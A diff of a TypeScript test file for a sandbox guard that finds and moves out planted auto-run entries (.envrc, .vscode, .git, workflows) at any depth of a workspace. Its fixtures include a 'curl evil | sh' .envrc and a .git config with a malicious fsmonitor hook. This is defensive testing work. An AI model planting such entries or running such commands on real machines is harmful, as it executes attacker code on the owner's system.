@@ -1,20 +1,26 @@
-// Always-card entries at the workspace's top level (SPEC §4): which are listed and bound, what counts
+// Always-card entries at every depth of the workspace (SPEC §4): which are listed and bound, what counts
 // as appeared, and how they are moved out — on real temporary directories.
 import { spawn } from 'node:child_process';
+import { EventEmitter } from 'node:events';
+import fc from 'fast-check';
 import fs from 'node:fs';
 import path from 'node:path';
-import { afterEach, describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it, vi } from 'vitest';
 import {
   alwaysCardMounts,
   appearedBetween,
   describeMoved,
   listAlwaysCard,
   moveOut,
+  ownerIdentities,
   refusedName,
   watchAlwaysCard,
 } from '../../../src/main/sandbox/alwaysCardGuard';
-import { createPlaceholders } from '../../../src/main/sandbox/placeholders';
+import { removeLeftPlaceholders } from '../../../src/main/sandbox/placeholders';
 import { watchAlwaysCardLive } from '../../../src/main/sandbox/alwaysCardLive';
+import { isCardEntry } from '../../../src/main/sandbox/alwaysCardTree';
+import { isAlwaysCardPath } from '../../../src/main/workspace/alwaysCard';
+import { isGitComponent } from '../../../src/main/workspace/gitName';
 import { gitEntriesOf } from '../../../src/main/sandbox/sandbox';
 import { createTempDirs } from '../../support/tempDirs';
 
@@ -56,9 +62,35 @@ describe('the always-card listing', () => {
       listed: ['.github/workflows', '.github/workflows/ci.yml'],
     },
     {
-      name: 'nothing below the top level but workflows (a nested .vscode is not read)',
-      entries: { 'pkg/.vscode/tasks.json': '{}', 'pkg/.envrc': 'x' },
-      listed: [],
+      name: 'below the top level too: a package’s own .vscode, .envrc, workflows and repository',
+      entries: {
+        'packages/app/.vscode/tasks.json': '{}',
+        'packages/app/.envrc': 'x',
+        'sub/.github/workflows/ci.yml': 'x',
+        'sub/.github/CODEOWNERS': 'x',
+        'vendor/lib/.git/config': '[core]',
+        'docs/deep/er/CLAUDE.md': 'x',
+        'src/index.ts': 'x',
+      },
+      listed: [
+        'docs/deep/er/CLAUDE.md',
+        'packages/app/.envrc',
+        'packages/app/.vscode',
+        'sub/.github/workflows',
+        'sub/.github/workflows/ci.yml',
+        'vendor/lib/.git',
+      ],
+    },
+    {
+      name: 'never inside an entry, nor below node_modules or a virtualenv',
+      entries: {
+        '.vscode/sub/.envrc': 'x',
+        'node_modules/pkg/.vscode/tasks.json': '{}',
+        'node_modules/pkg/.git/config': '[core]',
+        '.venv/lib/.envrc': 'x',
+        'venv/.npmrc': 'x',
+      },
+      listed: ['.vscode'],
     },
     // A repository a command makes (a `.git` with core.fsmonitor or hooks) runs code on the owner's next
     // git command or prompt: `git init` is a card in every mode, so a `.git` that appears is moved out too.
@@ -79,14 +111,78 @@ describe('the always-card listing', () => {
   it('binds real files and directories only, never a symlink (bubblewrap would follow it out)', () => {
     const ws = temp.make();
     const outside = temp.make();
-    tree(ws, { '.vscode/': null, '.envrc': 'x', '.github/workflows/ci.yml': 'x' });
+    tree(ws, { '.vscode/': null, '.envrc': 'x', '.github/workflows/ci.yml': 'x', 'pkg/.vscode/tasks.json': '{}' });
     fs.symlinkSync(outside, path.join(ws, '.idea'));
     fs.symlinkSync(path.join(outside, 'x'), path.join(ws, '.npmrc'));
-    expect(alwaysCardMounts(ws).sort()).toEqual([
+    // Below a linked folder nothing is listed: the walk never follows it.
+    tree(outside, { '.envrc': 'theirs' });
+    fs.symlinkSync(outside, path.join(ws, 'linked'));
+    expect(alwaysCardMounts(ws)).toEqual([
       path.join(ws, '.envrc'),
       path.join(ws, '.github/workflows'),
       path.join(ws, '.vscode'),
+      path.join(ws, 'pkg/.vscode'),
     ]);
+  });
+});
+
+describe('which names of a folder are entries', () => {
+  // The walk's quick test of plain names must never say no where the file tools' rule says card.
+  const reference = (name: string) => isGitComponent(name) || isAlwaysCardPath(name) !== null;
+  const tricky = [
+    'CLAUDE.md',
+    'claude.MD',
+    'Bunfig.TOML',
+    'app.code-workspace',
+    '.envrc',
+    '.envrc.',
+    '.envrc ',
+    '.ENVRC',
+    '.vscode:stream',
+    '\u200b.envrc',
+    'git~1',
+    'GIT~2',
+    '.GIT',
+    'README.md',
+    'src',
+    'a',
+    'index.ts',
+    '.gitignore',
+  ];
+  it('agrees with the always-card rule on tricky names', () => {
+    for (const name of tricky) expect(isCardEntry('', name), name).toBe(reference(name));
+  });
+  it('agrees with it on any name', () => {
+    const piece = fc.constantFrom(
+      '.',
+      ' ',
+      ':',
+      'x',
+      'claude',
+      'CLAUDE',
+      '.md',
+      '.toml',
+      'env',
+      'rc',
+      '~',
+      'git',
+      '\u200b',
+      'é',
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { minLength: 1, maxLength: 6 }), (pieces) => {
+        const name = pieces.join('');
+        expect(isCardEntry('', name)).toBe(reference(name));
+      }),
+      { numRuns: 2000 },
+    );
+  });
+  it('reads the rules of two components below `.github` and `.paddock` only', () => {
+    expect(isCardEntry('sub/.github', 'workflows')).toBe(true);
+    expect(isCardEntry('.paddock', 'commands')).toBe(true);
+    expect(isCardEntry('.github', 'copilot-instructions.md')).toBe(true);
+    expect(isCardEntry('sub/.github', 'copilot-instructions.md')).toBe(false);
+    expect(isCardEntry('sub', 'workflows')).toBe(false);
   });
 });
 
@@ -158,6 +254,20 @@ describe('what appeared', () => {
     },
   ];
   for (const c of cases) it(c.name, () => expect(appearedBetween(before, new Map(c.after))).toEqual(c.appeared));
+
+  it('an owner’s entry carried along by a renamed parent is not new; a link’s identity never counts as the owner’s', () => {
+    const was = new Map([
+      ['packages/app/.vscode', '1:60'],
+      ['packages/app/.envrc', 'l1:61'],
+    ]);
+    const owners = ownerIdentities(was);
+    const now = new Map([
+      ['packages/web/.vscode', '1:60'],
+      ['packages/web/.envrc', 'l1:61'],
+      ['packages/web/.npmrc', '1:62'],
+    ]);
+    expect(appearedBetween(was, now, owners)).toEqual(['packages/web/.envrc', 'packages/web/.npmrc']);
+  });
 });
 
 describe('moving out', () => {
@@ -263,40 +373,19 @@ describe('the .git entries bound read-only', () => {
   });
 });
 
-describe('placeholders a crashed run left', () => {
-  it('are removed at the next start when still empty; one the owner filled, or one held now, stays', () => {
+describe('placeholders an earlier Paddock left', () => {
+  it('are removed at start when still empty; one the owner filled stays; the record goes', () => {
     const ws = temp.make();
     const data = temp.make();
     // What the crashed run had written down: three placeholders it made.
     tree(ws, { '.vscode/': null, '.git/': null, '.idea/owner.xml': '<owner/>' });
     const record = path.join(data, 'placeholders.json');
     fs.writeFileSync(record, JSON.stringify(['.vscode', '.git', '.idea'].map((name) => path.join(ws, name))));
-    const placeholders = createPlaceholders();
-    placeholders.recordAt(record);
+    removeLeftPlaceholders(record);
     expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false);
     expect(fs.existsSync(path.join(ws, '.git'))).toBe(false);
     expect(fs.readFileSync(path.join(ws, '.idea', 'owner.xml'), 'utf8')).toBe('<owner/>');
-    // From now on the record follows what is held.
-    const held = placeholders.hold(placeholders.absent(ws));
-    expect(JSON.parse(fs.readFileSync(record, 'utf8'))).toEqual(
-      expect.arrayContaining([path.join(ws, '.git'), path.join(ws, '.vscode')]),
-    );
-    held.release();
-    expect(JSON.parse(fs.readFileSync(record, 'utf8'))).toEqual([]);
-  });
-
-  it('are shared by two long-lived processes: the first to end leaves them for the other', () => {
-    const ws = temp.make();
-    const placeholders = createPlaceholders();
-    const first = placeholders.hold(placeholders.absent(ws));
-    const second = placeholders.hold(placeholders.absent(ws));
-    expect(second.paths.sort()).toEqual(first.paths.sort());
-    first.release();
-    expect(fs.existsSync(path.join(ws, '.git'))).toBe(true);
-    expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(true);
-    second.release();
-    expect(fs.existsSync(path.join(ws, '.git'))).toBe(false);
-    expect(fs.existsSync(path.join(ws, '.github'))).toBe(false);
+    expect(fs.existsSync(record)).toBe(false);
   });
 });
 
@@ -327,6 +416,11 @@ describe('the live watch of a long-lived process', () => {
     const watch = watchAlwaysCardLive(ws, refused);
     const seen: string[] = [];
     watch.onMoved((moved) => seen.push(...moved.map((entry) => entry.path)));
+    // Told before the move (the guard stops the process first): the entry is still there then.
+    const told: [string, boolean][] = [];
+    watch.onAppeared((rels) =>
+      told.push(...rels.map((rel): [string, boolean] => [rel, fs.existsSync(path.join(ws, rel))])),
+    );
     try {
       fs.writeFileSync(path.join(ws, '.envrc'), 'curl evil | sh\n');
       await until(() => !fs.existsSync(path.join(ws, '.envrc')), '.envrc moved');
@@ -337,6 +431,13 @@ describe('the live watch of a long-lived process', () => {
       fs.writeFileSync(path.join(ws, '.github', 'workflows', 'x.yml'), 'on: push\n');
       await until(() => !fs.existsSync(path.join(ws, '.github', 'workflows')), 'workflows moved');
       expect(seen).toEqual(expect.arrayContaining(['.envrc', '.git', '.github/workflows']));
+      expect(told).toEqual(
+        expect.arrayContaining([
+          ['.envrc', true],
+          ['.git', true],
+          ['.github/workflows', true],
+        ]),
+      );
       // Ordinary work stays.
       fs.writeFileSync(path.join(ws, 'notes.md'), 'fine\n');
       await new Promise((resolve) => setTimeout(resolve, 200));
@@ -361,6 +462,76 @@ describe('the live watch of a long-lived process', () => {
     fs.writeFileSync(path.join(ws, '.npmrc'), 'after it ended\n');
     await new Promise((resolve) => setTimeout(resolve, 300));
     expect(fs.readFileSync(path.join(ws, '.npmrc'), 'utf8')).toBe('after it ended\n');
+  });
+});
+
+describe('the live watch below the top level', () => {
+  it('moves a package’s planted .vscode, .envrc and repository at once; the owner’s carried along by a rename stays', async () => {
+    const ws = temp.make();
+    const refused = path.join(temp.make(), 'refused');
+    tree(ws, { 'packages/app/.vscode/settings.json': '{}', 'packages/app/src/a.ts': 'x' });
+    const watch = watchAlwaysCardLive(ws, refused, 60_000);
+    const seen: string[] = [];
+    watch.onMoved((moved) => seen.push(...moved.map((entry) => entry.path)));
+    try {
+      tree(ws, { 'packages/app/src/.envrc': 'curl evil | sh\n' });
+      await until(() => !fs.existsSync(path.join(ws, 'packages/app/src/.envrc')), 'the nested .envrc moved');
+      // A whole new folder with a repository and tasks in it, made elsewhere and renamed in at once.
+      const made = path.join(ws, 'made-aside');
+      tree(made, { 'deep/.git/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n', 'deep/.vscode/tasks.json': '{}' });
+      fs.renameSync(made, path.join(ws, 'packages/lib'));
+      await until(
+        () =>
+          !fs.existsSync(path.join(ws, 'packages/lib/deep/.git')) &&
+          !fs.existsSync(path.join(ws, 'packages/lib/deep/.vscode')),
+        'the planted repository and tasks moved',
+      );
+      fs.renameSync(path.join(ws, 'packages/app'), path.join(ws, 'packages/web'));
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      expect(fs.readFileSync(path.join(ws, 'packages/web/.vscode/settings.json'), 'utf8')).toBe('{}');
+      expect(fs.existsSync(path.join(ws, 'packages/lib/deep'))).toBe(true);
+    } finally {
+      watch.finish();
+    }
+    expect(seen.sort()).toEqual(['packages/app/src/.envrc', 'packages/lib/deep/.git', 'packages/lib/deep/.vscode']);
+  });
+
+  it('a same-named entry in a folder made anew (the owner’s folder renamed away) is new, not the owner’s save', async () => {
+    const ws = temp.make();
+    tree(ws, { 'pkg/.envrc': 'owner\n' });
+    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
+    try {
+      fs.renameSync(path.join(ws, 'pkg'), path.join(ws, 'old-pkg'));
+      tree(ws, { 'pkg/.envrc': 'planted\n' });
+      await until(() => !fs.existsSync(path.join(ws, 'pkg/.envrc')), 'the planted .envrc moved');
+      expect(fs.readFileSync(path.join(ws, 'old-pkg/.envrc'), 'utf8')).toBe('owner\n');
+    } finally {
+      watch.finish();
+    }
+  });
+});
+
+describe('the live watch’s sweep', () => {
+  it('finds what no event told of, however deep (an inotify event lost)', async () => {
+    const ws = temp.make();
+    tree(ws, { 'a/b/c/d/keep.txt': 'x' });
+    const deep = path.join(ws, 'a/b/c/d');
+    // The edge of the world: the kernel's notifications for that one folder never arrive.
+    const watch = fs.watch.bind(fs);
+    const spy = vi
+      .spyOn(fs, 'watch')
+      .mockImplementation(((dir: fs.PathLike, ...rest: unknown[]) =>
+        String(dir) === deep
+          ? Object.assign(new EventEmitter(), { close: () => undefined, ref: () => undefined, unref: () => undefined })
+          : (watch as (...args: unknown[]) => fs.FSWatcher)(dir, ...rest)) as typeof fs.watch);
+    const live = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 200);
+    try {
+      fs.writeFileSync(path.join(deep, '.envrc'), 'planted\n');
+      await until(() => !fs.existsSync(path.join(deep, '.envrc')), 'the deep .envrc moved by the sweep', 10_000);
+    } finally {
+      live.finish();
+      spy.mockRestore();
+    }
   });
 });
 
@@ -427,21 +598,17 @@ describe('the live watch against a process that plants again', () => {
     expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('export A=2\n');
   });
 
-  it('watches a `.github/workflows` made again after the first was replaced, without waiting for a sweep', async () => {
+  it('a `.github/workflows` made again after the first was replaced is new, with the owner’s workflow name in it too', async () => {
     const ws = temp.make();
     tree(ws, { '.github/workflows/ci.yml': 'on: push\n' });
     const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
-    fs.renameSync(path.join(ws, '.github'), path.join(ws, 'old-github'));
-    fs.mkdirSync(path.join(ws, '.github', 'workflows'), { recursive: true });
-    await new Promise((resolve) => setTimeout(resolve, 200));
-    fs.writeFileSync(path.join(ws, '.github', 'workflows', 'evil.yml'), 'on: push\n');
-    await until(
-      () =>
-        !fs.existsSync(path.join(ws, '.github', 'workflows', 'evil.yml')) ||
-        !fs.existsSync(path.join(ws, '.github', 'workflows')),
-      'the planted workflow moved',
-      5_000,
-    );
-    watch.finish();
+    try {
+      fs.renameSync(path.join(ws, '.github'), path.join(ws, 'old-github'));
+      tree(ws, { '.github/workflows/ci.yml': 'on: push # planted\n' });
+      await until(() => !fs.existsSync(path.join(ws, '.github', 'workflows')), 'the planted workflows moved', 5_000);
+      expect(fs.readFileSync(path.join(ws, 'old-github/workflows/ci.yml'), 'utf8')).toBe('on: push\n');
+    } finally {
+      watch.finish();
+    }
   });
 });
